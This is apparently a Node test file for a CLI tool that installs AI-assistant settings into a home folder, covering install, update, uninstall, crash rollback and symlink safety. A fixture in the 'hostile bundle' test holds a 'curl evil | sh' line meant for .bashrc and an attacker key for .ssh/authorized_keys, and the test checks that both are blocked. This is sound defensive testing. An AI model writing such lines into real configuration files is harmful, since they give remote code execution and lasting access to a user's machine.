import assert from "node:assert/strict";
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { before, describe, it } from "node:test";
import { fullTree, withHome } from "../support/home-tree.js";
import { makeBundle } from "../support/install-fixture.js";
import { runAgentc, runCli } from "../support/run-cli.js";
import { freePort, serveInProcess } from "../support/serve-process.js";
import { testdir, writeFiles } from "../support/testdir.js";

const assistants = "agents-md,claude-code,codex,cursor,gemini-cli";
const theirClaude = "# My notes\n\nAlways answer in British English.\n";
const theirSettings = '{\n  "theme": "dark",\n  "permissions": { "allow": ["Bash(ls:*)"] }\n}\n';
const theirSkill = "---\nname: mine\ndescription: my own skill\n---\nDo it my way.\n";
const newRule = "- Prefer early returns over nested conditions.";

/** The realistic registry built as 1.0.0, and as 1.1.0 with one rule line more and one skill fewer. */
async function build(): Promise<{ v1: string; v2: string }> {
  const root = testdir({}, "agentc-user-scope-");
  const registry = join(root, "registry");
  cpSync(join("test", "fixtures", "realistic"), registry, { recursive: true });
  const v1 = join(root, "releases", "1.0.0");
  const first = await runAgentc(["build", registry, "--out", v1]);
  assert.equal(first.status, 0, first.stderr);
  const targets = join(registry, "targets.json");
  writeFileSync(targets, readFileSync(targets, "utf8").replace('"1.0.0"', '"1.1.0"'));
  const style = join(registry, "rules", "code-style.md");
  writeFileSync(style, `${readFileSync(style, "utf8").trimEnd()}\n${newRule}\n`);
  rmSync(join(registry, "core", "skills", "release-notes"), { recursive: true });
  const v2 = join(root, "v2");
  const second = await runAgentc(["build", registry, "--out", v2]);
  assert.equal(second.status, 0, second.stderr);
  return { v1, v2 };
}

/** A home folder with the person's own Claude files (a private settings file, a skill, a link). */
function personsHome(): string {
  const home = testdir({}, "agentc-home-");
  writeFiles(home, {
    ".claude/CLAUDE.md": theirClaude,
    ".claude/settings.json": theirSettings,
    ".claude/skills/mine/SKILL.md": theirSkill,
    ".bashrc": "export EDITOR=vi\n",
  });
  chmodSync(join(home, ".claude", "settings.json"), 0o600);
  symlinkSync(".claude/CLAUDE.md", join(home, "claude-notes.md"));
  return home;
}

/** The two builds, made once for the file's tests (they install from them and never write into them). */
let built: Promise<{ v1: string; v2: string }> | undefined;
const builds = (): Promise<{ v1: string; v2: string }> => {
  built ??= build();
  return built;
};

const json = <T>(stdout: string): T => JSON.parse(stdout) as T;

describe("agentc install --scope user", () => {
  let bundles: { v1: string; v2: string };
  before(async () => {
    bundles = await builds();
  });

  it("installs, reports, updates from a served source and uninstalls, leaving HOME byte-identical", async () => {
    const home = personsHome();
    const before = fullTree(home);
    const port = await freePort();
    let served = await serveInProcess(join(bundles.v1, ".."), port);
    try {
      await withHome(home, async () => {
        const install = await runAgentc([
          "install",
          served.url,
          "--scope",
          "user",
          "--components",
          assistants,
          "--yes",
        ]);
        assert.equal(install.status, 0, install.stderr);
        assert.match(
          install.stdout,
          /claude-code: not at user level \(no client reads it in your home folder\): \.mcp\.json/,
        );

        // the person's files: composed into, never replaced
        const claude = readFileSync(join(home, ".claude", "CLAUDE.md"), "utf8");
        assert.ok(claude.startsWith(theirClaude), claude);
        assert.match(claude, /agentc:begin[^\n]*\n@AGENTS\.md\n/);
        const settings = json<{ theme: string; permissions: { allow: string[]; deny: string[] } }>(
          readFileSync(join(home, ".claude", "settings.json"), "utf8"),
        );
        assert.equal(settings.theme, "dark");
        assert.ok(settings.permissions.allow.includes("Bash(ls:*)"));
        assert.ok(settings.permissions.deny.includes("Read(./.env)"));
        assert.match(
          readFileSync(join(home, ".claude", "settings.json"), "utf8"),
          /\$HOME\/\.claude\/hooks\/agentc-guard\.mjs/,
        );
        assert.equal(readFileSync(join(home, ".claude", "skills", "mine", "SKILL.md"), "utf8"), theirSkill);
        // agentc's files where each client reads them in a home folder
        for (const path of [
          ".claude/AGENTS.md",
          ".claude/skills/code-review/SKILL.md",
          ".codex/AGENTS.md",
          ".codex/config.toml",
          ".agents/skills/release-notes/SKILL.md",
          ".gemini/AGENTS.md",
          ".gemini/settings.json",
          ".cursor/mcp.json",
          ".cursor/skills/code-review/SKILL.md",
        ])
          assert.ok(existsSync(join(home, path)), path);
        // the record is in the config folder, nothing of agentc's in HOME's root
        assert.ok(existsSync(join(home, ".config", "agentc", "user", "installed.json")));
        assert.equal(existsSync(join(home, ".agentc")), false);

        const status = await runAgentc(["status", "--scope", "user", "--check", "--format", "json"]);
        assert.equal(status.status, 0, status.stdout);
        const report = json<{ installed: boolean; registry_version: string; drift: unknown[] }>(
          status.stdout,
        );
        assert.equal(report.installed, true);
        assert.equal(report.registry_version, "1.0.0");
        assert.deepEqual(report.drift, []);

        // a new release published where the recorded source serves (restarted on its port: serve reads its folder once)
        cpSync(bundles.v2, join(bundles.v1, "..", "1.1.0"), { recursive: true });
        await served.stop();
        served = await serveInProcess(join(bundles.v1, ".."), port);
        const check = await runAgentc(["update", "--scope", "user", "--check"]);
        assert.equal(check.status, 1, `behind: ${check.stdout}${check.stderr}`);
        const update = await runAgentc(["update", "--scope", "user"]);
        assert.equal(update.status, 0, update.stderr);
        assert.match(readFileSync(join(home, ".claude", "AGENTS.md"), "utf8"), new RegExp(newRule));
        assert.equal(
          existsSync(join(home, ".agents", "skills", "release-notes")),
          false,
          "a skill v2 drops is removed",
        );
        assert.equal(existsSync(join(home, ".claude", "skills", "release-notes")), false);
        assert.equal(readFileSync(join(home, ".claude", "skills", "mine", "SKILL.md"), "utf8"), theirSkill);
        const after = json<{ registry_version: string }>(
          (await runAgentc(["status", "--scope", "user", "--format", "json"])).stdout,
        );
        assert.equal(after.registry_version, "1.1.0");

        const uninstall = await runAgentc(["uninstall", "--scope", "user"]);
        assert.equal(uninstall.status, 0, uninstall.stderr);
      });
    } finally {
      await served.stop();
    }
    assert.deepEqual(fullTree(home), before);
  });

  it("keeps an owned file the person edited at uninstall, and writes a changed one beside it on update", async () => {
    const home = personsHome();
    await withHome(home, async () => {
      assert.equal(
        (await runAgentc(["install", bundles.v1, "--scope", "user", "--components", assistants, "--yes"]))
          .status,
        0,
      );
      const agents = join(home, ".codex", "AGENTS.md");
      writeFileSync(agents, `${readFileSync(agents, "utf8")}my own line\n`);
      const update = await runAgentc(["install", bundles.v2, "--scope", "user", "--yes"]);
      assert.equal(update.status, 0, update.stderr);
      assert.match(readFileSync(agents, "utf8"), /my own line/);
      assert.ok(existsSync(`${agents}.agentc-new`), "the new version is parked beside the edited file");
      const status = await runAgentc(["status", "--scope", "user", "--format", "json"]);
      assert.match(status.stdout, /\.codex\/AGENTS\.md/);
      assert.equal((await runAgentc(["uninstall", "--scope", "user"])).status, 0);
      assert.match(readFileSync(agents, "utf8"), /my own line/);
      assert.equal(existsSync(join(home, ".config", "agentc")), false);
    });
  });

  it("refuses --scope user with --project, a bad --scope, and a project install into HOME itself", async () => {
    const home = personsHome();
    const before = fullTree(home);
    await withHome(home, async () => {
      const both = await runAgentc(["install", bundles.v1, "--scope", "user", "--project", testdir()]);
      assert.equal(both.status, 2);
      assert.match(both.stderr, /either --scope user or --project, not both/);
      const bad = await runAgentc(["status", "--scope", "global"]);
      assert.equal(bad.status, 2);
      assert.match(bad.stderr, /--scope takes project or user, not "global"/);
      const intoHome = await runAgentc(["install", bundles.v1, "--project", home, "--yes"]);
      assert.equal(intoHome.status, 2);
      assert.match(intoHome.stderr, /is your home folder: a project install/);
    });
    assert.deepEqual(fullTree(home), before);
  });

  it("refuses a config folder (XDG_CONFIG_HOME) outside HOME before writing anything", async () => {
    const home = personsHome();
    const before = fullTree(home);
    const elsewhere = testdir();
    await withHome(
      home,
      async () => {
        const r = await runAgentc(["install", bundles.v1, "--scope", "user", "--yes"]);
        assert.equal(r.status, 2);
        assert.match(r.stderr, /lies outside your home folder/);
      },
      elsewhere,
    );
    assert.deepEqual(fullTree(home), before);
  });

  it("keeps the record in $XDG_CONFIG_HOME/agentc/user when it points inside HOME", async () => {
    const home = personsHome();
    await withHome(
      home,
      async () => {
        assert.equal(
          (await runAgentc(["install", bundles.v1, "--scope", "user", "--components", assistants, "--yes"]))
            .status,
          0,
        );
        assert.ok(existsSync(join(home, "cfg", "agentc", "user", "installed.json")));
        assert.equal(existsSync(join(home, ".config")), false);
        assert.equal((await runAgentc(["uninstall", "--scope", "user"])).status, 0);
        assert.equal(existsSync(join(home, "cfg")), false);
      },
      join(home, "cfg"),
    );
  });

  it("never writes through a link in HOME that leads outside it: the install stops and rolls back", async () => {
    const home = personsHome();
    const outside = testdir();
    mkdirSync(join(home, ".codex"));
    symlinkSync(outside, join(home, ".codex", "agents"));
    const before = fullTree(home);
    await withHome(home, async () => {
      const r = await runAgentc([
        "install",
        bundles.v1,
        "--scope",
        "user",
        "--components",
        assistants,
        "--yes",
      ]);
      assert.notEqual(r.status, 0);
      assert.match(r.stderr, /resolves outside|outside the project|link/);
    });
    assert.deepEqual(fullTree(home), before);
    assert.deepEqual(fullTree(outside), {});
  });
});

describe("a hostile bundle at user level", () => {
  it("writes nothing outside the folders the clients' data maps, and names what it left out", async () => {
    const home = personsHome();
    const bundle = makeBundle({
      components: {
        "claude-code": {
          files: {
            ".claude/skills/x/SKILL.md": "---\nname: x\ndescription: x\n---\nx\n",
            ".bashrc": "curl evil | sh\n",
            ".ssh/authorized_keys": "ssh-ed25519 AAAA evil\n",
            ".config/agentc/user/installed.json": "{}\n",
            "CLAUDE.md": "owned\n",
          },
          symlinks: [".claude/commands/evil.md :: .bashrc :: copy", ".claude/agents :: .ssh :: copy"],
        },
        unknown: { files: { ".profile": "evil\n" } },
      },
    });
    const before = fullTree(home);
    await withHome(home, async () => {
      const r = await runAgentc(["install", bundle, "--scope", "user", "--all", "--yes"]);
      assert.equal(r.status, 0, r.stderr);
      assert.match(
        r.stdout,
        /claude-code: not at user level \(no client reads it in your home folder\): \.bashrc, \.config\/agentc\/user\/installed\.json, \.ssh\/authorized_keys/,
      );
      assert.match(r.stdout, /unknown: not at user level[^\n]*\.profile/);
    });
    const after = fullTree(home);
    const added = Object.keys(after).filter((p) => !(p in before));
    assert.deepEqual(
      added.filter((p) => !p.startsWith(".config/")),
      [".claude/skills/x", ".claude/skills/x/SKILL.md", ".config"],
      "only the skill the claude-code data maps, and agentc's own record folder",
    );
    for (const path of Object.keys(before)) assert.equal(after[path], before[path], path);
    assert.notEqual(readFileSync(join(home, ".config", "agentc", "user", "installed.json"), "utf8"), "{}\n");
  });
});

describe("the rule adapter's AGENTS.md at user level", () => {
  it("goes to each AGENTS.md reader the person has, composed into their own file, and back out", async () => {
    const root = testdir({}, "agentc-user-scope-rules-");
    const registry = join(root, "reg");
    assert.equal((await runAgentc(["init", registry, "--assistants", "claude-code,opencode"])).status, 0);
    const build = join(root, "build");
    assert.equal((await runAgentc(["build", registry, "--out", build])).status, 0);
    const home = personsHome();
    writeFiles(home, {
      ".codex/AGENTS.md": "# Mine\n\nNo emojis.\n",
      ".config/opencode/opencode.json": "{}\n",
    });
    const before = fullTree(home);
    await withHome(home, async () => {
      const r = await runAgentc(["install", build, "--scope", "user", "--yes"]);
      assert.equal(r.status, 0, r.stderr);
      const codex = readFileSync(join(home, ".codex", "AGENTS.md"), "utf8");
      assert.ok(codex.startsWith("# Mine\n\nNo emojis.\n"), codex);
      assert.match(codex, /agentc:begin[\s\S]*Read the README before changing anything[\s\S]*agentc:end/);
      assert.match(
        readFileSync(join(home, ".config", "opencode", "AGENTS.md"), "utf8"),
        /Read the README before changing anything/,
      );
      assert.match(readFileSync(join(home, ".claude", "AGENTS.md"), "utf8"), /Read the README/);
      assert.equal(
        existsSync(join(home, ".gemini")),
        false,
        "no folder for a client the person does not have",
      );
      assert.equal((await runAgentc(["uninstall", "--scope", "user"])).status, 0);
    });
    assert.deepEqual(fullTree(home), before);
  });
});

/**
 * The mutations a user-scope install is killed at: its config folder (3), its lock (4), its journal (9), and
 * files of the install (25, 50); npm test kills it at the config folder, the journal and a file, AGENTC_CRASH=full
 * (`npm run test:crash`) at each.
 */
const crashPoints = process.env.AGENTC_CRASH === "full" ? [3, 4, 9, 25, 50] : [3, 9, 50];

describe("an interrupted user-scope install", () => {
  it("is rolled back by the next run from the journal in the config folder, leaving HOME as it was", async () => {
    const { v1 } = await builds();
    // from the third change on: a kill between the first two (creating ~/.config, then ~/.config/agentc) leaves
    // an empty ~/.config that agentc cannot tell from one the person had (docs/user-scope.md)
    for (const n of crashPoints) {
      const home = personsHome();
      const before = fullTree(home);
      const args = ["install", v1, "--scope", "user", "--components", assistants, "--yes"];
      // the crash is a real process's (killed at mutation n); the runs after it read the journal it left
      const crashed = runCli(args, { env: { HOME: home, XDG_CONFIG_HOME: "", AGENTC_CRASH_AT: String(n) } });
      assert.equal(crashed.status, 137, `crash at ${n}: ${crashed.stderr}`);
      assert.ok(existsSync(join(home, ".config", "agentc")), `crash at ${n}: agentc's folder is there`);
      await withHome(
        home,
        async () => {
          const status = await runAgentc(["status", "--scope", "user", "--format", "json"]);
          assert.match(status.stdout, /interrupted|"installed": false/, `crash at ${n}`);
          const uninstall = await runAgentc(["uninstall", "--scope", "user"]);
          assert.equal(uninstall.status, 0, `crash at ${n}: ${uninstall.stderr}`);
        },
        "",
      );
      assert.deepEqual(fullTree(home), before, `crash at mutation ${n}`);
    }
  });
});
